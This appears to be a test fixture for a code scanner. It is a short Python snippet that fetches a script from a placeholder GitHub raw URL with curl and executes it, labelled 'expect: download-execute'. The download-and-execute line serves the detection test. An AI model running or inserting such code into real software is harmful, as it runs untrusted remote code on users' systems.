# ruff: noqa
# fmt: off
import subprocess

code = subprocess.check_output(["curl", "-s", "https://raw.githubusercontent.com/a/b/main/c.py"])
exec(code)  # expect: download-execute
